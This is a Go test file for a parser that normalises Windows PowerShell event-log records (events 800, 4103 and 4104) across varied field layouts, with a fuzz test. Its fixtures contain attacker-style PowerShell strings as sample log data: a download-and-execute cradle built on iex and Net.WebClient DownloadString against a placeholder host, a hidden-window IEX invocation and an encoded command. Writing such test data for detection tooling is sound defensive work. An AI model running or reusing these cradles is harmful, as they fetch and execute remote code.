package event

import (
	"strconv"
	"strings"
	"testing"
)

const (
	psOp        = "Microsoft-Windows-PowerShell"
	scriptGUID  = "9d1f7a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b"
	details800  = "\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=21\r\n\r\n\tUserId=CORP\\bob\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -nop -w hidden -c IEX $x\r\n\tEngineVersion=5.1\r\n\tPipelineId=7\r\n\tScriptName=C:\\s.ps1\r\n\tCommandLine=Invoke-Expression $x\r\n"
	payload800  = "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"\r\nParameterBinding(Invoke-Expression): name=\"Command\"; value=\"whoami\"\r\n"
	context4103 = "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -enc SQBFAFgA\r\n        Command Name = Invoke-WebRequest\r\n        Script Name = C:\\s.ps1\r\n        User = CORP\\bob\r\n"
	payload4103 = "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://x/a\"\r\n"
)

func TestScriptBlockShapes(t *testing.T) {
	want := ScriptBlockPart{ScriptBlockID: scriptGUID, MessageNumber: 1, MessageTotal: 2, ScriptText: "iex (New-Object Net.WebClient).DownloadString('http://x/a')", ScriptPath: `C:\a.ps1`}
	positional := []string{"1", "2", want.ScriptText, "{" + scriptGUID + "}", `C:\a.ps1`}
	numbered := func(prefix string, base int) map[string]string {
		m := map[string]string{}
		for i, v := range positional {
			m[prefix+itoa(i+base)] = v
		}
		return m
	}
	dataNames := numbered("Data", 0)
	dataNames["Data"] = dataNames["Data0"]
	delete(dataNames, "Data0")
	tests := []struct {
		name    string
		data    map[string]string
		message string
	}{
		{"named", map[string]string{"MessageNumber": "1", "MessageTotal": "2", "ScriptBlockText": want.ScriptText, "ScriptBlockId": scriptGUID, "Path": `C:\a.ps1`}, ""},
		{"named other spelling", map[string]string{"message_number": "1", "messagetotal": "2", "Script Block Text": want.ScriptText, "scriptblockid": scriptGUID, "path": `C:\a.ps1`}, ""},
		{"unnamed #n", numbered("#", 0), ""},
		{"param1..5", numbered("param", 1), ""},
		{"Data, Data1..4", dataNames, ""},
		{"Data1..5", numbered("Data", 1), ""},
		{"message only", map[string]string{"Message": "x"}, "Creating Scriptblock text (1 of 2):\r\n" + want.ScriptText + "\r\n\r\nScriptBlock ID: " + scriptGUID + "\r\nPath: C:\\a.ps1"},
		{"message in a field", map[string]string{"Message": "Creating Scriptblock text (1 of 2):\n" + want.ScriptText + "\n\nScriptBlock ID: " + scriptGUID + "\nPath: C:\\a.ps1\n"}, ""},
		{"translated message", nil, "Erstellen von Scriptblock-Text (1 von 2):\r\n" + want.ScriptText + "\r\n\r\nScriptBlock-ID: " + scriptGUID + "\r\nPfad: C:\\a.ps1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := rec(psOp, "", 4104, tt.data)
			r.Message = tt.message
			got := Normalize(r, false).ScriptBlockPart
			if got == nil || *got != want {
				t.Errorf("got  %+v\nwant %+v", got, want)
			}
		})
	}
}

func TestScriptBlockMessageEdges(t *testing.T) {
	// A script whose own last line looks like an ID line: the last one is the trailer.
	text := "$a = 1\r\nid: 11111111-2222-3333-4444-555555555555"
	s, ok := scriptBlockMessage("Creating Scriptblock text (1 of 1):\r\n" + text + "\r\n\r\nScriptBlock ID: " + scriptGUID + "\r\nPath: ")
	if !ok || s.ScriptText != text || s.ScriptBlockID != scriptGUID || s.ScriptPath != "" {
		t.Errorf("%+v", s)
	}
	if _, ok := scriptBlockMessage("no header here"); ok {
		t.Error("a message without the (n of m) header must not parse")
	}
	// Named fields win over the message.
	r := rec(psOp, "", 4104, map[string]string{"ScriptBlockText": "named", "MessageNumber": "3", "MessageTotal": "3"})
	r.Message = "Creating Scriptblock text (1 of 1):\r\nfrom message\r\n\r\nScriptBlock ID: " + scriptGUID + "\r\nPath: "
	if s := Normalize(r, false).ScriptBlockPart; s.ScriptText != "named" || s.MessageNumber != 3 {
		t.Errorf("named must win: %+v", s)
	}
	// Two unnamed values are no positional 4104.
	if s := Normalize(rec(psOp, "", 4104, map[string]string{"#0": "1", "#1": "x"}), false).ScriptBlockPart; s.ScriptText != "" || s.MessageNumber != 0 {
		t.Errorf("%+v", s)
	}
}

func TestPipelineShapes(t *testing.T) {
	want800 := Pipeline{HostApplication: "powershell.exe -nop -w hidden -c IEX $x", CommandLine: "Invoke-Expression $x", ScriptName: `C:\s.ps1`, PSUser: `CORP\bob`, Payload: payload800}
	lf := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
	spaced := strings.ReplaceAll(details800, "=", " = ")
	message800 := "Pipeline execution details for command line: Invoke-Expression $x\r\n. \r\n\r\nContext Information: \r\n" + details800 + "\r\n\r\nDetails: \r\n" + payload800
	want4103 := Pipeline{HostApplication: "powershell.exe -enc SQBFAFgA", CommandLine: "Invoke-WebRequest", ScriptName: `C:\s.ps1`, PSUser: `CORP\bob`, Payload: payload4103}
	trimmed := want4103
	trimmed.Payload = payload4103[:len(payload4103)-2]
	tests := []struct {
		name    string
		id      uint32
		data    map[string]string
		message string
		want    Pipeline
	}{
		{"800 unnamed #n", 800, map[string]string{"#0": "Invoke-Expression $x\r\n", "#1": details800, "#2": payload800}, "", want800},
		{"800 param1..3", 800, map[string]string{"param1": "Invoke-Expression $x", "param2": details800, "param3": payload800}, "", want800},
		{"800 Data, Data1, Data2", 800, map[string]string{"Data": "Invoke-Expression $x", "Data1": details800, "Data2": payload800}, "", want800},
		{"800 LF and Key = Value", 800, map[string]string{"#0": "Invoke-Expression $x", "#1": lf(spaced), "#2": payload800}, "", want800},
		{"800 named fields", 800, map[string]string{"HostApplication": want800.HostApplication, "CommandLine": want800.CommandLine, "ScriptName": want800.ScriptName, "UserId": want800.PSUser, "Payload": payload800}, "", want800},
		{"800 param1..3 and fields split out (Elastic)", 800, map[string]string{"param1": "Invoke-Expression $x", "param2": details800, "param3": payload800, "HostApplication": want800.HostApplication, "CommandLine": want800.CommandLine}, "", want800},
		{"800 one joined blob", 800, map[string]string{"Data": "Invoke-Expression $x\n" + details800}, "",
			Pipeline{HostApplication: want800.HostApplication, CommandLine: want800.CommandLine, ScriptName: want800.ScriptName, PSUser: want800.PSUser}},
		{"800 details under another name", 800, map[string]string{"Detail": details800}, "",
			Pipeline{HostApplication: want800.HostApplication, CommandLine: want800.CommandLine, ScriptName: want800.ScriptName, PSUser: want800.PSUser}},
		{"800 message only", 800, nil, message800, Pipeline{HostApplication: want800.HostApplication, CommandLine: want800.CommandLine, ScriptName: want800.ScriptName, PSUser: want800.PSUser, Payload: payload800[:len(payload800)-2]}},
		{"800 message field (NXLog)", 800, map[string]string{"Message": message800, "Category": "Pipeline Execution Details"}, "", Pipeline{HostApplication: want800.HostApplication, CommandLine: want800.CommandLine, ScriptName: want800.ScriptName, PSUser: want800.PSUser, Payload: payload800[:len(payload800)-2]}},
		{"4103 named", 4103, map[string]string{"ContextInfo": context4103, "UserData": "", "Payload": payload4103}, "", want4103},
		{"4103 unnamed", 4103, map[string]string{"#0": context4103, "#1": "", "#2": payload4103}, "", want4103},
		{"4103 param1..3", 4103, map[string]string{"param1": context4103, "param2": "", "param3": payload4103}, "", want4103},
		{"4103 Key=Value LF", 4103, map[string]string{"ContextInfo": lf(strings.ReplaceAll(context4103, " = ", "=")), "Payload": payload4103}, "", want4103},
		{"4103 split into named fields", 4103, map[string]string{"HostApplication": want4103.HostApplication, "CommandName": want4103.CommandLine, "ScriptName": want4103.ScriptName, "User": want4103.PSUser, "Payload": payload4103}, "", want4103},
		{"4103 message only", 4103, nil, payload4103 + "\r\n\r\nContext:\r\n" + context4103 + "\r\n\r\nUser Data:\r\n", trimmed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			provider := psOp
			if tt.id == 800 {
				provider = "PowerShell"
			}
			r := rec(provider, "", tt.id, tt.data)
			r.Message = tt.message
			got := Normalize(r, false).Pipeline
			if got == nil || *got != tt.want {
				t.Errorf("got  %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

func itoa(i int) string { return strconv.Itoa(i) }

// FuzzPowerShell feeds arbitrary EventData values and messages to the PowerShell
// mappings: they must never panic.
func FuzzPowerShell(f *testing.F) {
	f.Add("Invoke-Expression $x", details800, payload800, "Pipeline execution details for command line: x. \r\n\r\nContext Information: \r\n"+details800+"\r\n\r\nDetails: \r\n"+payload800)
	f.Add(context4103, "", payload4103, payload4103+"\r\n\r\nContext:\r\n"+context4103+"\r\n\r\nUser Data:\r\n")
	f.Add("1", "2", "text", "Creating Scriptblock text (1 of 2):\r\ntext\r\n\r\nScriptBlock ID: "+scriptGUID+"\r\nPath: ")
	f.Add("", "", "", "(9 of 9)\n\n:"+scriptGUID)
	f.Fuzz(func(t *testing.T, a, b, c, msg string) {
		for _, id := range []uint32{800, 4103, 4104} {
			provider := psOp
			if id == 800 {
				provider = "PowerShell"
			}
			for _, data := range []map[string]string{{"#0": a, "#1": b, "#2": c}, {"param1": a, "Data": b, "Message": msg}, {a: b, b: c}} {
				r := rec(provider, "", id, data)
				r.Message = msg
				Normalize(r, false)
			}
		}
	})
}
